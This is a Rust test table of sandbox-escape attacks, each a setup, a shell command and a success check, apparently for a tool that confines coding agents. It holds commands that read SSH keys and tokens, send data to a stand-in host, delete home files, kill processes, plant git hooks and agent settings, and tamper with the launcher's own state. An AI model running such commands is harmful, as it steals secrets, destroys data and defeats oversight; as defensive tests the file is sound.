//! The attacks: what is set up, what is tried inside, and how its success shows outside.
//!
//! `$HOME` is a throw-away home, `$P` the project in it, `$OUT` a place outside both,
//! `$VICTIM` a process of the same user. `serve` starts a helper and waits for it.

/// One attack.
pub struct Attack {
    pub name: &'static str,
    pub setup: &'static str,
    pub attack: &'static str,
    /// Succeeds if the attack did.
    pub hit: &'static str,
    /// Path rules alone do not stop it; named in the documentation.
    pub landlock_hits: bool,
}

const fn attack(
    name: &'static str,
    setup: &'static str,
    attack: &'static str,
    hit: &'static str,
) -> Attack {
    Attack {
        name,
        setup,
        attack,
        hit,
        landlock_hits: false,
    }
}

impl Attack {
    /// One that path rules alone do not stop.
    const fn past_landlock(mut self) -> Self {
        self.landlock_hits = true;
        self
    }
}

/// What a stolen file leaves in the project.
const LOOT: &str = "grep -q canary $P/loot";
const RECEIVED: &str = "sleep 0.2; grep -q stolen $OUT/received";

pub const ATTACKS: &[Attack] = &[
    // The home.
    attack(
        "delete home",
        "",
        "rm -rf ~/.ssh ~/notes ~/other",
        "test ! -e ~/.ssh/id_rsa",
    ),
    attack(
        "shell start file",
        "",
        "echo evil >> ~/.bashrc",
        "grep -q evil ~/.bashrc",
    ),
    attack(
        "agent settings",
        "",
        "mkdir -p ~/.claude; echo evil > ~/.claude/settings.json",
        "test -e ~/.claude/settings.json",
    ),
    attack(
        "autostart",
        "",
        "mkdir -p ~/.config/autostart; echo evil > ~/.config/autostart/x.desktop",
        "test -e ~/.config/autostart/x.desktop",
    ),
    attack(
        "user service",
        "",
        "mkdir -p ~/.config/systemd/user; echo evil > ~/.config/systemd/user/x.service",
        "test -e ~/.config/systemd/user/x.service",
    ),
    attack(
        "planted program",
        "mkdir -p ~/.local/bin",
        "echo evil > ~/.local/bin/ls",
        "test -e ~/.local/bin/ls",
    ),
    attack(
        "other project",
        "",
        "echo evil > ~/other/main.py",
        "grep -q evil ~/other/main.py",
    ),
    attack(
        "link to other project",
        "",
        "ln -s ~/other way; echo evil > way/main.py",
        "grep -q evil ~/other/main.py",
    ),
    attack(
        "cargo's sources",
        "mkdir -p ~/.cargo/registry/src; echo fn > ~/.cargo/registry/src/lib.rs",
        "echo evil > ~/.cargo/registry/src/lib.rs",
        "grep -q evil ~/.cargo/registry/src/lib.rs",
    ),
    attack(
        "global git settings",
        "echo '[user]' > ~/.gitconfig",
        "git config --global core.pager evil",
        "grep -q evil ~/.gitconfig",
    ),
    attack(
        "moved out of home",
        "",
        "mv ~/notes/passwords.txt .",
        "test ! -e ~/notes/passwords.txt",
    ),
    attack(
        "rights of a key",
        "",
        "chmod 777 ~/.ssh/id_rsa",
        "test -n \"$(find ~/.ssh/id_rsa -perm 777)\"",
    ),
    attack(
        "rights by an opened path",
        "",
        "$PY 'import os; f = os.open(os.environ[\"REALHOME\"] + \"/.ssh/id_rsa\", os.O_PATH); os.chmod(\"/proc/self/fd/%d\" % f, 0o777)'",
        "test -n \"$(find ~/.ssh/id_rsa -perm 777)\"",
    ),
    attack(
        "times of a key",
        "",
        "touch -d 2001-01-01 ~/.ssh/id_rsa",
        "test -n \"$(find ~/.ssh/id_rsa ! -newermt 2002-01-01)\"",
    ),
    attack(
        "truncated notes",
        "",
        "truncate -s 0 ~/notes/passwords.txt",
        "test ! -s ~/notes/passwords.txt",
    ),
    // Secrets.
    attack("ssh key", "", "cat ~/.ssh/id_rsa > loot", LOOT),
    attack(
        "cloud key",
        "mkdir ~/.aws; echo canary > ~/.aws/credentials",
        "cat ~/.aws/credentials > loot",
        LOOT,
    ),
    attack(
        "forge token",
        "mkdir -p ~/.config/gh; echo canary > ~/.config/gh/hosts.yml",
        "cat ~/.config/gh/hosts.yml > loot",
        LOOT,
    ),
    attack(
        "secret on no list",
        "",
        "cat ~/notes/passwords.txt > loot",
        LOOT,
    ),
    attack(
        "other project's settings",
        "echo canary > ~/other/.env",
        "cat ~/other/.env > loot",
        LOOT,
    ),
    attack(
        "registry token",
        "mkdir -p ~/.cargo/bin; echo canary > ~/.cargo/credentials.toml",
        "cat ~/.cargo/credentials.toml > loot",
        LOOT,
    ),
    attack(
        "link to a key",
        "ln -s ~/.ssh $P/way",
        "cat way/id_rsa > loot",
        LOOT,
    ),
    attack(
        "second name of a key",
        "",
        "ln ~/.ssh/id_rsa second; cat second > loot",
        LOOT,
    ),
    attack(
        "variable with a token",
        "",
        "printenv GITHUB_TOKEN > loot",
        LOOT,
    ),
    attack(
        "automode's own state",
        "mkdir -p ~/.state; echo canary > ~/.state/secret",
        "cat ~/.state/secret > loot",
        LOOT,
    ),
    attack("inherited file", "", "cat <&9 > loot", LOOT),
    // The network.
    attack(
        "post by tcp",
        "serve stream 203.0.113.7:8080",
        "$PY 'import socket; socket.create_connection((\"203.0.113.7\", 8080), 2).send(b\"stolen\")'",
        RECEIVED,
    ),
    attack(
        "post by mapped address",
        "serve stream 203.0.113.7:8080",
        "$PY 'import socket; s = socket.socket(socket.AF_INET6); s.connect((\"::ffff:203.0.113.7\", 8080)); s.send(b\"stolen\")'",
        RECEIVED,
    ),
    attack(
        "post by fast open",
        "serve stream 203.0.113.7:8080",
        "$PY 'import socket; s = socket.socket(); s.sendto(b\"stolen\", 0x20000000, (\"203.0.113.7\", 8080)); s.close()'",
        RECEIVED,
    ),
    attack(
        "metadata address",
        "serve stream 169.254.169.254:8080",
        "$PY 'import socket; socket.create_connection((\"169.254.169.254\", 8080), 2).send(b\"stolen\")'",
        RECEIVED,
    ),
    attack(
        "post by udp",
        "serve datagram 203.0.113.7:5353",
        "$PY 'import socket; socket.socket(2, 2).sendto(b\"stolen\", (\"203.0.113.7\", 5353))'",
        RECEIVED,
    ),
    attack(
        "connected udp",
        "serve datagram 203.0.113.7:5353",
        "$PY 'import socket; s = socket.socket(2, 2); s.connect((\"203.0.113.7\", 5353)); s.send(b\"stolen\")'",
        RECEIVED,
    ),
    attack(
        "host's loopback service",
        "serve stream 127.0.0.1:8081",
        "$PY 'import socket; socket.create_connection((\"127.0.0.1\", 8081), 2).send(b\"stolen\")'",
        RECEIVED,
    ),
    attack(
        "host's loopback by another name",
        "serve stream 127.0.0.1:8081",
        "$PY 'import socket; socket.create_connection((\"0.0.0.0\", 8081), 2).send(b\"stolen\")'",
        RECEIVED,
    ),
    attack(
        "served to the outside",
        "serve knock 203.0.113.7:8082",
        "timeout 3 $PY 'import socket; s = socket.socket(); s.setsockopt(1, 2, 1); s.bind((\"0.0.0.0\", 8082)); s.listen(1); s.settimeout(2); s.accept()[0].send(b\"stolen\")'",
        RECEIVED,
    ),
    attack(
        "served without an address",
        "serve knockfile $P/port",
        "timeout 3 $PY 'import socket; s = socket.socket(); s.listen(1); s.settimeout(2); open(\"port\", \"w\").write(str(s.getsockname()[1])); s.accept()[0].send(b\"stolen\")'",
        RECEIVED,
    ),
    attack(
        "address changed after the look",
        "serve stream 203.0.113.7:8080",
        "timeout 4 $PY \"$SWAP\"",
        RECEIVED,
    ),
    // Sockets that are files or names.
    attack(
        "container engine",
        "mkdir -p ~/.docker/run; serve stream $HOME/.docker/run/docker.sock",
        "send ~/.docker/run/docker.sock",
        RECEIVED,
    ),
    attack(
        "session bus",
        "serve stream $OUT/bus",
        "send $OUT/bus",
        RECEIVED,
    ),
    attack(
        "ssh agent",
        "mkdir $OUT/ssh; serve stream $OUT/ssh/agent",
        "send $OUT/ssh/agent",
        RECEIVED,
    ),
    attack(
        "gpg agent",
        "mkdir ~/.gnupg; serve stream $HOME/.gnupg/S.gpg-agent",
        "send ~/.gnupg/S.gpg-agent",
        RECEIVED,
    ),
    attack(
        "socket on no list",
        "serve stream $HOME/notes/s",
        "send ~/notes/s",
        RECEIVED,
    ),
    attack(
        "socket by a link",
        "serve stream $HOME/notes/s; ln -s $HOME/notes/s $P/s",
        "send s",
        RECEIVED,
    ),
    attack(
        "datagram socket",
        "serve datagram $HOME/notes/d",
        "$PY 'import os, socket; socket.socket(1, 2).sendto(b\"stolen\", os.environ[\"REALHOME\"] + \"/notes/d\")'",
        RECEIVED,
    ),
    attack(
        "abstract socket",
        "serve stream @automode-attack",
        "$PY 'import socket; s = socket.socket(1); s.connect(\"\\0automode-attack\"); s.send(b\"stolen\")'",
        RECEIVED,
    ),
    // Other processes.
    attack(
        "kill a process",
        "",
        "kill -9 $VICTIM",
        "sleep 0.1; ! kill -0 $VICTIM",
    ),
    attack(
        "kill all processes",
        "",
        "kill -9 -1",
        "sleep 0.1; ! kill -0 $VICTIM",
    ),
    attack(
        "trace a process",
        "",
        "$PY 'import ctypes, os; print(\"canary\" if ctypes.CDLL(None).ptrace(16, int(os.environ[\"VICTIM\"]), 0, 0) == 0 else 0)' > loot",
        LOOT,
    ),
    attack(
        "memory of a process",
        "",
        "$PY 'import os; open(\"/proc/%s/mem\" % os.environ[\"VICTIM\"], \"rb\"); print(\"canary\")' > loot",
        LOOT,
    ),
    attack(
        "variables of a process",
        "",
        "tr '\\0' '\\n' < /proc/$VICTIM/environ | grep HIDDEN > loot",
        LOOT,
    ),
    attack(
        "root of a process",
        "",
        "cat /proc/$VICTIM/root$REALHOME/.ssh/id_rsa > loot",
        LOOT,
    ),
    attack(
        "directory of a process",
        "",
        "cat /proc/$VICTIM/cwd/.ssh/id_rsa > loot",
        LOOT,
    ),
    attack(
        "daemon outlives the call",
        "",
        "(setsid sh -c 'sleep 1; touch $P/survived' > /dev/null 2>&1 &)",
        "sleep 1.5; test -e $P/survived",
    ),
    attack(
        "shared segment",
        "serve segment 4242",
        "$PY 'import ctypes as c; l = c.CDLL(None); l.shmat.restype = c.c_void_p; print(c.string_at(l.shmat(l.shmget(4242, 64, 0), None, 0), 6).decode())' > loot",
        LOOT,
    ),
    attack(
        "shared memory of the machine",
        "echo old > $SHM",
        "echo evil > $SHM",
        "grep -q evil $SHM",
    )
    .past_landlock(),
    // The kernel.
    attack(
        "keyring",
        "",
        "$PY 'import ctypes; print(\"canary\" if ctypes.CDLL(None).syscall(248, b\"user\", b\"attack\", b\"x\", 1, -2) > 0 else 0)' > loot",
        LOOT,
    ),
    attack(
        "ring that no filter sees",
        "",
        "$PY 'import ctypes, errno; l = ctypes.CDLL(None, use_errno=True); l.syscall(425, 1, 0); print(\"canary\" if ctypes.get_errno() == errno.EFAULT else 0)' > loot",
        LOOT,
    ),
    attack(
        "user namespace",
        "",
        "unshare --user --map-root-user echo canary > loot",
        LOOT,
    ),
    attack(
        "mount",
        "",
        "unshare --user --map-root-user --mount sh -c 'mount -t tmpfs none /mnt && echo canary' > loot",
        LOOT,
    ),
    attack(
        "gain by a program's owner",
        "",
        "grep -q 'NoNewPrivs:.0' /proc/self/status && echo canary > loot",
        LOOT,
    ),
    attack(
        "virtual machine socket",
        "",
        "$PY 'import socket; socket.socket(40, 1); print(\"canary\")' > loot",
        LOOT,
    ),
    // Temporary directories.
    attack(
        "real /tmp",
        "echo old > $TMPFILE",
        "echo evil > $TMPFILE",
        "grep -q evil $TMPFILE",
    ),
    attack(
        "place outside",
        "echo canary > $OUT/file",
        "cat $OUT/file > loot",
        LOOT,
    ),
    // The repository.
    attack(
        "hook",
        "",
        "echo evil > .git/hooks/pre-commit",
        "test -e $P/.git/hooks/pre-commit",
    ),
    attack(
        "repository settings",
        "",
        "git config core.fsmonitor evil",
        "grep -q evil $P/.git/config",
    ),
    attack(
        "replaced repository",
        "",
        "mv .git old; git init -q .; git config core.fsmonitor evil",
        "grep -q evil $P/.git/config",
    ),
    attack(
        "attributes",
        "rm -rf $P/.git/info/attributes",
        "mkdir -p .git/info; echo '* filter=evil' > .git/info/attributes",
        "test -e $P/.git/info/attributes",
    ),
    attack(
        "redirected repository",
        "",
        "echo /nowhere > .git/commondir",
        "test -e $P/.git/commondir",
    ),
    attack(
        "moved branch",
        "",
        "echo evil > .git/refs/heads/planted",
        "test -e $P/.git/refs/heads/planted",
    ),
    attack(
        "destroyed objects",
        "",
        "chmod -R u+w .git/objects; rm -rf .git/objects",
        "test ! -e $P/.git/objects",
    )
    .past_landlock(),
    attack(
        "nested repository's hook",
        "user git init -q $P/libs/inner",
        "echo evil > libs/inner/.git/hooks/pre-commit",
        "test -e $P/libs/inner/.git/hooks/pre-commit",
    ),
    attack(
        "named hooks directory",
        "mkdir $P/.githooks; echo ok > $P/.githooks/pre-push; user git config -f $P/.git/config core.hooksPath .githooks",
        "echo evil > .githooks/pre-push",
        "grep -q evil $P/.githooks/pre-push",
    ),
    attack(
        "worktree's common hooks",
        "user git -C $P worktree add -q $P/side",
        "echo evil > $(git -C side rev-parse --git-common-dir)/hooks/pre-commit",
        "test -e $P/.git/hooks/pre-commit",
    ),
    // Names that other programs act on.
    attack(
        "project's agent settings",
        "mkdir $P/.claude; echo ok > $P/.claude/settings.json",
        "echo evil > .claude/settings.json",
        "grep -q evil $P/.claude/settings.json",
    ),
    attack(
        "directory file that appears",
        "",
        "echo evil > .envrc",
        "test -e $P/.envrc",
    ),
    attack(
        "tool servers that appear",
        "",
        "echo evil > .mcp.json",
        "test -e $P/.mcp.json",
    ),
    attack(
        "editor's tasks",
        "mkdir $P/.vscode; echo ok > $P/.vscode/tasks.json",
        "mv .vscode .old; mkdir .vscode; echo evil > .vscode/tasks.json",
        "grep -q evil $P/.vscode/tasks.json",
    ),
    attack(
        "editor's tasks that appear",
        "",
        "mkdir .vscode; echo evil > .vscode/tasks.json",
        "test -e $P/.vscode/tasks.json",
    ),
    attack(
        "hook manager",
        "mkdir $P/.husky; echo ok > $P/.husky/pre-commit",
        "echo evil > .husky/pre-commit",
        "grep -q evil $P/.husky/pre-commit",
    ),
    attack(
        "link in place of settings",
        "",
        "ln -s /dev/null .mcp.json; ln -s /etc .claude",
        "test -L $P/.claude",
    ),
    // What one run plants for the next.
    attack(
        "repository that is a link to a secret",
        "mkdir $P/sub; ln -s $HOME/notes $P/sub/.git",
        "cat ~/notes/passwords.txt > loot",
        LOOT,
    ),
    attack(
        "repository that shares a secret place",
        "user git init -q $P/sub; echo $HOME/notes > $P/sub/.git/commondir",
        "cat ~/notes/passwords.txt > loot",
        LOOT,
    ),
    attack(
        "environment made from a secret place",
        "mkdir $P/.venv; echo home = $HOME/.ssh > $P/.venv/pyvenv.cfg",
        "cat ~/.ssh/id_rsa > loot",
        LOOT,
    ),
    attack(
        "environment made from planted links",
        "mkdir -p $P/.venv $P/fake/bin $P/fake/lib/python3.9; ln -s $HOME/.ssh $P/fake/bin/x; cp /bin/true $P/fake/bin/python3; echo home = $P/fake/bin > $P/.venv/pyvenv.cfg",
        "cat ~/.ssh/id_rsa > loot",
        LOOT,
    ),
    attack(
        "link on the search path",
        "mkdir $P/bin; ln -s $HOME/.ssh/id_rsa $P/bin/x; export PATH=$P/bin:$PATH",
        "cat ~/.ssh/id_rsa > loot",
        LOOT,
    ),
    attack(
        "active environment that is a link",
        "ln -s $HOME/notes $P/.venv; export VIRTUAL_ENV=$P/.venv",
        "cat ~/notes/passwords.txt > loot",
        LOOT,
    ),
    // Ways around what is kept.
    attack(
        "nested repository renamed away",
        "user git init -q $P/libs/inner",
        "mv libs old; mkdir libs; cp -a old/inner libs/inner; chmod -R u+w libs; echo evil > libs/inner/.git/hooks/pre-commit",
        "test -e $P/libs/inner/.git/hooks/pre-commit",
    ),
    attack(
        "hook of a deeply nested repository",
        "user git init -q $P/a/b/c/d/e/f",
        "echo evil > a/b/c/d/e/f/.git/hooks/pre-commit",
        "test -e $P/a/b/c/d/e/f/.git/hooks/pre-commit",
    ),
    attack(
        "settings behind a link",
        "mkdir $P/conf; echo ok > $P/conf/settings.json; ln -s conf $P/.claude",
        "rm .claude; mkdir .claude; echo evil > .claude/settings.json",
        "grep -q evil $P/.claude/settings.json",
    ),
    attack(
        "repository that appears",
        "mkdir $P/sub",
        "git init -q sub; git -C sub config core.fsmonitor evil",
        "grep -q evil $P/sub/.git/config",
    ),
    attack(
        "included settings",
        "echo '[core]' > $P/.gitshared; user git config -f $P/.git/config include.path ../.gitshared",
        "git config -f .gitshared core.fsmonitor evil",
        "grep -q evil $P/.gitshared",
    ),
    attack(
        "hooks named on the section's line",
        "mkdir $P/.hk; echo ok > $P/.hk/pre-push; echo '[core] hooksPath = .hk ; ours' >> $P/.git/config",
        "echo evil > .hk/pre-push",
        "grep -q evil $P/.hk/pre-push",
    ),
    attack(
        "hooks named for every repository",
        "mkdir $P/.hk; echo ok > $P/.hk/pre-push; echo '[core]' > $HOME/.gitconfig; echo 'hooksPath = .hk' >> $HOME/.gitconfig",
        "echo evil > .hk/pre-push",
        "grep -q evil $P/.hk/pre-push",
    ),
    attack(
        "mending that follows a link",
        "user git init -q $P/libs/inner; user git init -q $HOME/other/inner",
        "mv libs old; ln -s $REALHOME/other libs; rm -rf $REALHOME/other/inner/.git",
        "test ! -e $HOME/other/inner/.git/HEAD",
    ),
    attack(
        "hook of another root",
        "user git init -q $OUT/second; MORE=\"\\\"write\\\":[\\\"$OUT/second\\\"]\"",
        "echo evil > $OUT/second/.git/hooks/pre-commit",
        "test -e $OUT/second/.git/hooks/pre-commit",
    ),
    attack(
        "settings of another root",
        "mkdir $OUT/second; MORE=\"\\\"write\\\":[\\\"$OUT/second\\\"]\"",
        "echo evil > $OUT/second/.mcp.json",
        "test -e $OUT/second/.mcp.json",
    ),
    // While the repository may be written.
    attack(
        "hook while committing",
        "MORE='\"git\":\"commit\"'",
        "mv .git/hooks .git/old; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit",
        "grep -q evil $P/.git/hooks/pre-commit",
    ),
    attack(
        "replaced repository while committing",
        "MORE='\"git\":\"commit\"'",
        "mv .git old; git init -q .; git config core.fsmonitor evil",
        "grep -q evil $P/.git/config",
    ),
    attack(
        "attributes while committing",
        "mkdir -p $P/.git/info; echo ok > $P/.git/info/attributes; MORE='\"git\":\"commit\"'",
        "mv .git/info .git/old; mkdir .git/info; echo evil > .git/info/attributes",
        "grep -q evil $P/.git/info/attributes",
    ),
    attack(
        "another worktree while committing",
        "user git -C $P worktree add -q $HOME/side; MORE='\"git\":\"commit\"'",
        "echo $P > .git/worktrees/side/commondir",
        "grep -q app$ $P/.git/worktrees/side/commondir",
    ),
    attack(
        "another worktree's settings while committing",
        "user git -C $P worktree add -q $HOME/side; MORE='\"git\":\"commit\"'",
        "echo evil > .git/worktrees/side/config.worktree",
        "grep -q evil $P/.git/worktrees/side/config.worktree",
    ),
    attack(
        "nested repository while committing",
        "user git init -q $P/libs/inner; MORE='\"git\":\"commit\"'",
        "mv libs old; mkdir libs; cp -a old/inner libs/inner; chmod -R u+w libs; echo evil > libs/inner/.git/hooks/pre-commit",
        "test -e $P/libs/inner/.git/hooks/pre-commit",
    ),
    // A home that is shown without its secrets.
    attack(
        "key in a home that is shown",
        "MORE='\"home\":\"hide\"'",
        "cat ~/.ssh/id_rsa > loot",
        LOOT,
    ),
    attack(
        "own state in a home that is shown",
        "mkdir -p $HOME/.state; echo canary > $HOME/.state/secret; MORE='\"home\":\"hide\"'",
        "cat ~/.state/secret > loot",
        LOOT,
    ),
    attack(
        "written home that is shown",
        "MORE='\"home\":\"hide\"'",
        "echo evil >> ~/.bashrc",
        "grep -q evil $HOME/.bashrc",
    ),
    // Variables, descriptors and devices.
    attack(
        "variables of every process",
        "",
        "cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep -a ^GITHUB_TOKEN > loot",
        LOOT,
    ),
    attack(
        "password in an address",
        "export DATABASE_URL=postgres://me:canary@db.example/x",
        "printenv DATABASE_URL > loot",
        LOOT,
    ),
    attack(
        "secret under a plain name",
        "export DEPLOY=ghp_0123456789abcdefghijABCDEFGHIJ012345",
        "printenv DEPLOY | sed s/ghp_.*/canary/ > loot",
        LOOT,
    ),
    attack(
        "rights of a readable file by its descriptor",
        "echo '[user]' > $HOME/.gitconfig",
        "$PY 'import os; os.fchmod(os.open(os.environ[\"REALHOME\"] + \"/.gitconfig\", 0), 0o777)'",
        "test -n \"$(find $HOME/.gitconfig -perm 777)\"",
    ),
    attack(
        "times of a readable file by its descriptor",
        "echo '[user]' > $HOME/.gitconfig",
        "$PY 'import os; os.utime(os.open(os.environ[\"REALHOME\"] + \"/.gitconfig\", 0), (1, 1))'",
        "test -n \"$(find $HOME/.gitconfig ! -newermt 2002-01-01)\"",
    ),
    attack(
        "attribute of a readable file by its descriptor",
        "echo '[user]' > $HOME/.gitconfig",
        "$PY 'import os; os.setxattr(os.open(os.environ[\"REALHOME\"] + \"/.gitconfig\", 0), \"user.evil\", b\"x\")'",
        "python3 -c 'import os; os.getxattr(os.environ[\"HOME\"] + \"/.gitconfig\", \"user.evil\")' 2>/dev/null",
    ),
    attack(
        "device of the machine",
        "",
        // Which devices everybody may open differs from machine to machine.
        "for d in /dev/*; do case ${d#/dev/} in null|zero|full|random|urandom|tty|ptmx|console|std*) continue;; esac; \
         [ -c $d ] && (exec 3<$d) 2>&- && echo canary; done > loot",
        LOOT,
    ),
    attack(
        "another terminal of the person",
        "serve terminal $OUT/terminal",
        "echo stolen > $(cat $OUT/terminal 2>/dev/null || echo $TERMINAL)",
        RECEIVED,
    )
    .past_landlock(),
    // More sockets and processes.
    attack(
        "datagram by a raw socket",
        "serve datagram $HOME/notes/d",
        "$PY 'import os, socket; socket.socket(1, 3).sendto(b\"stolen\", os.environ[\"REALHOME\"] + \"/notes/d\")'",
        RECEIVED,
    ),
    attack(
        "datagram by a pair",
        "serve datagram $HOME/notes/d",
        "$PY 'import os, socket; socket.socketpair(1, 2)[0].sendto(b\"stolen\", os.environ[\"REALHOME\"] + \"/notes/d\")'",
        RECEIVED,
    ),
    attack(
        "loopback service beside an own one",
        "serve stream 127.0.0.1:8081",
        "$PY 'import socket; s = socket.socket(); s.bind((\"127.0.0.2\", 8081)); s.listen(1); socket.create_connection((\"127.0.0.1\", 8081), 2).send(b\"stolen\")'",
        RECEIVED,
    ),
    attack(
        "loopback service that shares its port",
        "serve shared 127.0.0.1:8081",
        "$PY 'import socket, time; s = socket.socket(); s.setsockopt(1, 15, 1); s.bind((\"127.0.0.1\", 8081)); s.listen(50); [socket.create_connection((\"127.0.0.1\", 8081), 2).send(b\"stolen\") for _ in range(30)]; time.sleep(0.3)'",
        RECEIVED,
    ),
    attack(
        "post by a program that asks the proxy",
        "serve stream 203.0.113.7:8080",
        "curl -s -m 3 http://203.0.113.7:8080/stolen",
        RECEIVED,
    ),
    attack(
        "limits of a process",
        "",
        "prlimit --pid $VICTIM --nofile=3:3",
        "grep -q 'open files  *3 ' /proc/$VICTIM/limits",
    ),
    attack(
        "signal by a descriptor",
        "",
        "$PY 'import os, signal; signal.pidfd_send_signal(os.pidfd_open(int(os.environ[\"VICTIM\"])), 9)'",
        "sleep 0.1; ! kill -0 $VICTIM",
    ),
    attack(
        "removed segment",
        "serve segment 4242",
        "$PY 'import ctypes as c; n = [int(l.split()[1]) for l in open(\"/proc/sysvipc/shm\") if l.split()[0] == \"4242\"]; c.CDLL(None).shmctl(n[0], 0, None)'",
        "! grep -q '^ *4242 ' /proc/sysvipc/shm",
    ),
    attack(
        "many that outlive the call",
        "",
        "for i in 1 2 3 4 5 6 7 8; do (setsid sh -c 'for n in 1 2 3 4 5 6 7 8 9; do (sleep 0.1; sleep 0.9; touch $P/survived) & done; sleep 1; touch $P/survived' > /dev/null 2>&1 &); done",
        "sleep 1.6; test -e $P/survived",
    ),
    // By way of the launcher itself.
    attack(
        "service that nobody opened, by the launcher",
        "serve stream 127.0.0.1:8081",
        "$PY 'import os, socket; p = \"/run/automode/proxy.sock\"; q = os.environ.get(\"HTTP_PROXY\", \"http://127.0.0.1:8081\").split(\":\")[-1]; u = os.path.exists(p); s = socket.socket(1 if u else 2); s.connect(p if u else (\"127.0.0.1\", int(q))); s.send(b\"LOOPBACK 8081\\n\"); s.settimeout(1); s.send(b\"stolen\")'",
        RECEIVED,
    ),
    attack(
        "service beside an opened one, by the launcher",
        "serve stream 127.0.0.1:8081; MORE='\"loopback\":[8083]'",
        "$PY 'import os, socket; p = \"/run/automode/proxy.sock\"; q = os.environ.get(\"HTTP_PROXY\", \"http://127.0.0.1:8081\").split(\":\")[-1]; u = os.path.exists(p); s = socket.socket(1 if u else 2); s.connect(p if u else (\"127.0.0.1\", int(q))); s.send(b\"LOOPBACK 8083 8081\\n\"); s.settimeout(1); s.send(b\"stolen\")'",
        RECEIVED,
    ),
    attack(
        "launcher's order",
        "",
        "for f in $REALHOME/.cache/automode/confined/run/*/order.json /run/automode/order.json; do [ -e $f ] && echo '{}' > $f && echo canary > loot; done; [ -d /run/automode ] || [ -n \"$AUTOMODE_CONFINED\" ] || echo canary > loot",
        LOOT,
    ),
    attack(
        "temporary files of another session",
        "mkdir -p $HOME/.cache/automode/confined/session/other/tmp; echo canary > $HOME/.cache/automode/confined/session/other/tmp/x",
        "cat $REALHOME/.cache/automode/confined/session/other/tmp/x > loot",
        LOOT,
    ),
    attack(
        "answer of the self-test",
        "",
        "mkdir -p $REALHOME/.state; echo evil > $REALHOME/.state/confine-selftest.json",
        "grep -q evil $HOME/.state/confine-selftest.json",
    ),
    attack(
        "promise for another call",
        "mkdir -p $HOME/.state/confined",
        "echo evil > $REALHOME/.state/confined/k.ticket.json",
        "grep -q evil $HOME/.state/confined/k.ticket.json",
    ),
    attack(
        "kept files of a person",
        "mkdir -p $HOME/.state/undo/c1/blobs; echo canary > $HOME/.state/undo/c1/blobs/x",
        "cat $REALHOME/.state/undo/c1/blobs/x > loot; rm -rf $REALHOME/.state/undo",
        "grep -q canary $P/loot || test ! -e $HOME/.state/undo",
    ),
    // The kernel again.
    attack(
        "user namespace by the newer call",
        "",
        "$PY 'import ctypes, os; a = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, 17); p = ctypes.CDLL(None).syscall(435, ctypes.byref(a), 88); os._exit(0) if p == 0 else print(\"canary\" if p > 0 else 0)' > loot",
        LOOT,
    ),
    attack(
        "file of a process by its descriptor",
        "",
        "$PY 'import ctypes, os; l = ctypes.CDLL(None); f = l.syscall(438, os.pidfd_open(int(os.environ[\"VICTIM\"])), 0, 0); print(\"canary\" if f >= 0 else 0)' > loot",
        LOOT,
    ),
    attack(
        "priority of a process",
        "",
        "renice -n 19 -p $VICTIM",
        "test \"$(ps -o ni= -p $VICTIM | tr -d ' ')\" = 19",
    ),
    attack(
        "processors of a process",
        "",
        "taskset -p 1 $VICTIM",
        "test \"$(taskset -p $VICTIM | sed 's/.*: //')\" = 1 && test $(nproc) -gt 1",
    ),
    attack(
        "class of a process",
        "",
        "chrt --idle -p 0 $VICTIM",
        "chrt -p $VICTIM | grep -q IDLE",
    ),
    attack(
        "memory pressure on a process",
        "",
        "echo 900 > /proc/$VICTIM/oom_score_adj",
        "grep -qx 900 /proc/$VICTIM/oom_score_adj",
    ),
    attack(
        "message queue",
        "user $PY 'import ctypes; l = ctypes.CDLL(None); b = ctypes.create_string_buffer(b\"\\1\\0\\0\\0\\0\\0\\0\\0canary\"); l.msgsnd(l.msgget(4243, 0o1600), b, 6, 0)'",
        "$PY 'import ctypes; l = ctypes.CDLL(None); b = ctypes.create_string_buffer(64); l.msgrcv(l.msgget(4243, 0), b, 16, 0, 0o4000); print(b.raw[8:14].decode())' > loot",
        LOOT,
    ),
    attack(
        "write lock on a file of the machine",
        "",
        "$PY 'import fcntl, os, subprocess; f = open(os.environ[\"REALHOME\"] + \"/.bashrc\", \"a\"); fcntl.flock(f, 2); f.write(\"evil\")'",
        "grep -q evil $HOME/.bashrc",
    ),
    // What tools obey.
    attack(
        "package manager that is the project's own",
        "",
        "echo 'yarnPath: ./evil.cjs' > .yarnrc.yml",
        "test -e $P/.yarnrc.yml",
    ),
    attack(
        "compiler that is the project's own",
        "mkdir $P/.cargo; echo '[build]' > $P/.cargo/config.toml",
        "echo 'rustc-wrapper = \"./evil\"' >> .cargo/config.toml",
        "grep -q evil $P/.cargo/config.toml",
    ),
    attack(
        "compiler's settings that appear",
        "",
        "mkdir .cargo; echo 'rustc-wrapper = \"./evil\"' > .cargo/config.toml",
        "test -e $P/.cargo/config.toml",
    ),
    attack(
        "toolchain that is the project's own",
        "",
        "printf '[toolchain]\\npath = \"evil\"\\n' > rust-toolchain.toml",
        "test -e $P/rust-toolchain.toml",
    ),
    attack(
        "workflow that appears",
        "",
        "mkdir -p .github/workflows; echo evil > .github/workflows/ci.yml",
        "test -e $P/.github/workflows/ci.yml",
    ),
    attack(
        "submodule's hook while committing",
        "user mkdir -p $P/.git/modules/sub/hooks; MORE='\"git\":\"commit\"'",
        "echo evil > .git/modules/sub/hooks/post-checkout",
        "test -e $P/.git/modules/sub/hooks/post-checkout",
    ),
];
